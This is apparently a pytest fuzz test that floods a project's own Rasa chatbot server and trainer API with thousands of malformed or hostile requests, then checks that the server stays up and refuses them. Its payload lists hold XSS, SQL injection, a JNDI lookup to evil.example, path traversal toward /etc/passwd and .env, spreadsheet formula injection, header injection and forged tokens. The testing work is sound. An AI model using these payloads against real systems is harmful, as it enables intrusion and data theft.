"""Attack it: 10,000+ malformed or hostile requests against the real Rasa server's
public routes (REST webhook, chat page routes) and the trainer page's API, from
a seeded generator, 8 at a time. Targets: no 5xx, no dropped connection, no
traceback in the server log, the server alive afterwards and a real
conversation unaffected.

The per-client limit is raised for the whole test session (tests/servers.py),
so the requests reach the code behind it; the per-sender limit stays real, so
some 429s are expected and fine. Requests that would run NLU (hostile but
valid messages) are kept to a few hundred: NLU is the slow part, and the
cheap refusals are what a flood consists of.

The trainer API is attacked mostly without its token or with a forged one;
with the real token only where nothing can change: reads with hostile query
strings, and writes whose body or intent the route must refuse before acting
(the servers run on the work tree, whose data/nlu a valid assignment would edit).
"""

from __future__ import annotations

import hashlib
import http.client
import json
import random
import string
import time
import urllib.parse
import uuid
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from bot import secrets
from bot.settings import PROJECT_DIR
from tests.conversation.questions import INCIDENT

SEED = 20260411
TOTAL = 10_400
WEBHOOK = "/webhooks/rest/webhook"
CHAT = "/webhooks/chat"
TRAINER = "/webhooks/trainer"
Request = tuple[str, str, bytes | None, dict[str, str]]

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    '" OR ""="',
    "'; SELECT * FROM licences; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "\x00\x01\x02\x1b[31m",
    "\u202eevil\u202c",
    "\ud83d\ude00" * 50,
    "A\r\nX-Injected: 1",
    '=HYPERLINK("http://evil")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\ufeff\u200b\u2028\u2029",
    "Z̷̢͈a̸̛͖l̶̘̆g̵̼͝o̵͚̒",
    "null",
    "undefined",
    "NaN",
    "-1e999",
    "\\u0000",
]
INTENTS = [
    '/request_service{"sr_email": "evil@example.com"}',
    '/request_service{"sr_service": "incident_response"}',
    '/request_service{"sr_service": "x", "sr_name": "<script>"}',
    '/affirm{"sr_confirmed": true}',
    "/restart",
    "/session_start",
    "/nlu_fallback",
    "/scope_licence@1.0",
    '/scope_licence{"language": "de"}',
    "/" + "a" * 5000,
    "/",
    '/check_licence{"licence_key": "AAAAA-BBBBB-CCCCC-DDDDD"}',
    "/action_restart",
]


def digest_of(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def rand_text(rng: random.Random, n: int) -> str:
    pools = [
        string.printable,
        "æøåÆØÅäöÄÖ",
        "\x00\x07\x1b\x7f\r\n\t",
        "\u202e\u200b\ufeff",
        "😀🔥𝔘𝔫𝔦",
        "<>&\"'`;|$%{}[]\\",
    ]
    return "".join(rng.choice(rng.choice(pools)) for _ in range(n))


def rand_json(rng: random.Random, depth: int = 0) -> object:
    kind = rng.randrange(9 if depth < 4 else 6)
    if kind == 0:
        return None
    if kind == 1:
        return rng.choice([True, False])
    if kind == 2:
        return rng.choice([0, -1, 2**63, 1e308, -0.0, 3.14])
    if kind in (3, 4, 5):
        return rand_text(rng, rng.randrange(0, 40))
    if kind in (6, 7):
        return [rand_json(rng, depth + 1) for _ in range(rng.randrange(4))]
    return {rand_text(rng, 5): rand_json(rng, depth + 1) for _ in range(rng.randrange(4))}


def sender_like(rng: random.Random) -> object:
    return rng.choice(
        [
            uuid.uuid4().hex,
            "",
            None,
            42,
            ["a"],
            {"a": 1},
            "a" * 65,
            "a" * 64,
            "../../etc",
            "a b",
            "å",
            "x\r\nSet-Cookie: a=b",
            "default",
            "<script>",
            rand_text(rng, 10),
            "web-" + str(rng.randrange(100)),
        ]
    )


def webhook_body(rng: random.Random, nlu_budget: list[int]) -> bytes:
    """A malformed, hostile or over-long REST body; at most nlu_budget[0] valid
    ones, which reach NLU (the slow part: it runs on the server's event loop)."""
    kind = rng.randrange(100)
    if kind < 10:  # raw bytes: invalid UTF-8, truncated JSON, nothing
        return rng.choice(
            [
                b"",
                b"\xff\xfe\xfd",
                b"{",
                b'{"sender":',
                b"\x00" * 10,
                bytes(rng.randrange(256) for _ in range(rng.randrange(200))),
                b"[" * 3000 + b"]" * 3000,
                b'{"a":' * 2000,
            ]
        )
    if kind < 20:  # any JSON value
        return json.dumps(rand_json(rng)).encode()
    if kind < 28:  # huge: over the body limit, or just under it with an over-long message
        size = rng.choice([70_000, 65_000, 100_000, 60_000])
        return json.dumps({"sender": "huge", "message": "y" * size}).encode()
    body: dict[str, object] = {"sender": sender_like(rng)}
    if kind < 40:  # wrong types everywhere
        body["message"] = rand_json(rng)
        body["metadata"] = rand_json(rng)
    elif kind < 55:  # over-long, some with metadata
        body = {
            "sender": f"long-{rng.randrange(400)}",
            "message": rand_text(rng, 1001 + rng.randrange(3000)),
        }
        if rng.random() < 0.5:
            body["metadata"] = {"lang": rng.choice(["nb", "sv", "en", "de", 5, None, "x" * 100])}
    elif kind < 85:  # forged intents with slot values
        body = {"sender": f"forge-{rng.randrange(400)}", "message": rng.choice(INTENTS)}
    elif kind < 97:  # lone surrogates, bad metadata, input_channel override
        raw = '{"sender": "s%d", "message": "hi \\ud800", "metadata": %s, "input_channel": "x"}'
        return (
            raw
            % (
                rng.randrange(1000),
                rng.choice(
                    ['{"lang": "\\udfff"}', "[]", '"nb"', "1", '{"a":{"b":{"c":{"d":{"e":1}}}}}']
                ),
            )
        ).encode()
    else:  # hostile text: through NLU and the actions while the budget lasts, else over-long
        if nlu_budget[0] > 0:  # each hostile text once through NLU
            nlu_budget[0] -= 1
            text = HOSTILE[nlu_budget[0]] + " " + rand_text(rng, rng.randrange(30))
        else:
            text = rng.choice(HOSTILE) + " " + rand_text(rng, rng.randrange(30))
            text = (text + " ") * (1001 // len(text) + 2)
        body = {"sender": f"hostile-{rng.randrange(100)}", "message": text}
    try:
        return json.dumps(body).encode()
    except (TypeError, ValueError):
        return b"{}"


def chat_request(rng: random.Random) -> tuple[str, str, bytes | None]:
    kind = rng.randrange(6)
    if kind == 0:  # static files: traversal, encodings, odd names
        path = rng.choice(
            [
                "../../bot/db.py",
                "..%2f..%2fbot%2fdb.py",
                "%2e%2e/%2e%2e/README.md",
                ".env",
                "widget.js%00.py",
                "....//....//etc/passwd",
                "%c0%ae%c0%ae/x",
                "widget.js",
                "a" * 3000,
                "%ff%fe",
                "\\..\\..\\x",
                "sub/../widget.js",
            ]
        )
        return "GET", f"{CHAT}/static/{path}", None
    if kind == 1:  # clause ids and languages
        cid = rng.choice(
            [
                "rules:4.2.3",
                "kb101732:2.1",
                "rules:99",
                "'; DROP TABLE clauses;--",
                "%00",
                "a" * 2000,
                "<script>",
                rand_text(rng, 8),
            ]
        )
        query = urllib.parse.urlencode({"lang": rng.choice(["en", "nb", "sv", "de", "", "\x00"])})
        return "GET", f"{CHAT}/clause/{urllib.parse.quote(cid, safe='')}?{query}", None
    if kind == 2:
        lang = urllib.parse.quote(rng.choice(["en", "xx", "' OR 1=1", "\r\n", "a" * 500]))
        return "GET", f"{CHAT}/labels?lang={lang}", None
    if kind == 3:  # feedback: mostly invalid
        fb = {
            k: rand_json(rng)
            for k in (
                "sender",
                "rating",
                "question",
                "answer",
                "rule_ids",
                "verdict",
                "lang",
                "comment",
            )
            if rng.random() < 0.7
        }
        if rng.random() < 0.3:
            fb.update(
                sender=f"fb-{rng.randrange(200)}",
                rating=rng.choice(["up", "down", "meh"]),
                question="=cmd|' /C calc'!A0",
                answer="<script>",
                lang="en",
            )
        raw = json.dumps(fb).encode() if rng.random() < 0.9 else webhook_body(rng, [0])
        return "POST", f"{CHAT}/feedback", raw
    if kind == 4:
        return "POST", f"{CHAT}/session", rng.choice([None, b"", b"{}", b"\xff", b"[1]"])
    return (
        rng.choice(["GET", "PUT", "DELETE", "PATCH"]),
        rng.choice([WEBHOOK, f"{CHAT}/feedback", f"{CHAT}/session", f"{CHAT}/"]),
        None,
    )


def trainer_request(rng: random.Random, token: str) -> Request:
    entry = rng.choice(["1", "0", "-1", "999999999999999999999", "abc", "%00", "1;DROP", "1/.."])
    kind = rng.randrange(5)
    auth = rng.choice(
        [
            {},
            {"Authorization": "Bearer " + token[:-1] + "x"},
            {"Authorization": "Bearer"},
            {"Authorization": "Basic " + token},
            {"Authorization": "Bearer " + "a" * 5000},
            {"Authorization": "Bearer " + "".join(rng.choices(string.printable[:94], k=40))},
        ]
    )
    if kind == 0:  # no token or a forged one, on any route and method
        path = rng.choice(
            [
                "/api/inbox",
                "/api/inbox/sync",
                f"/api/inbox/{entry}",
                f"/api/inbox/{entry}/assign",
                f"/api/inbox/{entry}/ignore",
                f"/api/inbox/{entry}/oos",
                "/api/intents",
                "/api/retrain",
                "/api/evaluation",
                "/api/evaluation/plot",
            ]
        )
        body = webhook_body(rng, [0]) if rng.random() < 0.5 else None
        return rng.choice(["GET", "POST", "PUT"]), TRAINER + path, body, auth
    real = {"Authorization": f"Bearer {token}"}
    if kind == 1:  # reads with hostile filters
        query = urllib.parse.urlencode(
            {
                key: rng.choice(HOSTILE + ["nb", "fallback", "new", "2", "-1", "0.5"])
                for key in ("lang", "reason", "status", "intent", "min_confidence")
                if rng.random() < 0.6
            },
            errors="surrogatepass",  # lone surrogates: invalid UTF-8 on the wire
        )
        return "GET", f"{TRAINER}/api/inbox?{query}", None, real
    if kind == 2:
        path = rng.choice([f"/api/inbox/{entry}", "/api/intents", "/api/retrain"])
        return "GET", TRAINER + path, None, real
    if kind == 3:  # writes the route must refuse before acting: bad body or intent
        intent = rng.choice(["", " ", "<script>", "a" * 200, "scope x", "../etc", None, 7, []])
        raw = rng.choice(
            [
                json.dumps({"intent": intent}).encode(),
                b"\xff\xfe",
                b"[1, 2]",
                b"null",
                b"{" * 100,
                webhook_body(rng, [0]),
            ]
        )
        return "POST", f"{TRAINER}/api/inbox/{entry}/assign", raw, real
    static = rng.choice(["../../bot/db.py", "%2e%2e/%2e%2e/README.md", "trainer.js%00", "a" * 3000])
    return "GET", f"{TRAINER}/static/{static}", None, {}


def plan(seed: int, total: int, trainer_token: str) -> list[Request]:
    rng = random.Random(seed)
    requests: list[Request] = []
    nlu_budget = [len(HOSTILE)]  # NLU is slow (0.1-2 s a message, on the event loop)
    for _ in range(total):
        draw = rng.random()
        if draw < 0.55:
            requests.append(("POST", WEBHOOK, webhook_body(rng, nlu_budget), {}))
        elif draw < 0.9:
            requests.append((*chat_request(rng), {}))
        else:
            requests.append(trainer_request(rng, trainer_token))
    return requests


def sender_for(url: str) -> Callable[[Request], int]:
    parsed = urllib.parse.urlsplit(url)

    def send(req: Request) -> int:
        method, path, body, extra = req
        conn = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=60)
        try:
            headers = {"Content-Type": "application/json"} if body is not None else {}
            conn.request(method, path, body=body, headers={**headers, **extra})
            resp = conn.getresponse()
            resp.read()
            return resp.status
        except (OSError, http.client.HTTPException) as exc:
            return -len(type(exc).__name__)  # a dropped connection: counted, never a pass
        finally:
            conn.close()

    return send


def test_fuzz_no_5xx_and_the_bot_still_answers(running_bot):
    log = running_bot.cfg.var_dir / "logs" / "rasa.log"
    log_start = log.stat().st_size if log.exists() else 0
    token = secrets.trainer_token(running_bot.cfg)
    assert token
    nlu_before = digest_of(PROJECT_DIR / "data" / "nlu")
    requests = plan(SEED, TOTAL, token)
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=8) as pool:
        statuses = list(pool.map(sender_for(running_bot.url), requests, chunksize=16))
    elapsed = time.monotonic() - started
    counts = Counter(statuses)
    print(f"\nfuzz: {len(statuses)} requests in {elapsed:.1f} s: {dict(sorted(counts.items()))}")
    assert len(statuses) >= 10_000
    assert not [s for s in statuses if s >= 500], counts
    assert not [s for s in statuses if s < 0], f"dropped connections: {counts}"
    assert counts[400] > 1000 and counts[200] > 1000  # both sides of the checks were reached
    assert counts[401] > 30  # the trainer API refused forged tokens (others: 405, 400)
    assert digest_of(PROJECT_DIR / "data" / "nlu") == nlu_before  # no phrase written

    assert running_bot.get("/webhooks/chat/health") == {"status": "ok"}
    assert running_bot.get("/webhooks/rest/") == {"status": "ok"}
    sender = uuid.uuid4().hex
    reply = running_bot.ask(INCIDENT["nb"], sender)
    assert reply.answer["lang"] == "nb" and reply.answer["verdict"] == "paid"
    assert reply.answer["rule_ids"]
    payload = reply.buttons[0]["payload"]
    assert "Kaspersky Incident Response" in running_bot.ask(payload, sender, lang="nb").text

    if log.exists():
        with log.open("rb") as f:
            f.seek(log_start)
            new = f.read().decode("utf-8", "replace")
        assert "Traceback" not in new, new[new.find("Traceback") - 2000 :][:6000]
